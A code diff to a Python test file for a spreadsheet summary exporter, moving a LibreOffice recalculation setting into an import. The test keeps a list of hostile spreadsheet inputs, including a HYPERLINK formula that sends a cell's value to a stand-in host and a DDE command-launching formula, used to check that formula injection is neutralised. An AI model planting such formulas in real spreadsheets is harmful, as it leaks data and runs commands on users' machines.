@@ -11,17 +11,11 @@ import pytest
 
 from gik_editor.batch import BatchResult
 from gik_editor.batch_xlsx import write_summary
+from tests.exporters.test_xlsx_libreoffice import RECALC_ALWAYS
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A2,"点此查看")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+2",
                  "@SUM(1,2)", "\t=1+1", "\r=2+2", "=A1", "-", "+", "@"]
-RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
-<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
- xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
-<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
-<value>0</value></prop></item>
-</oor:items>
-"""
 
 
 def results_workbook(path: Path) -> None:
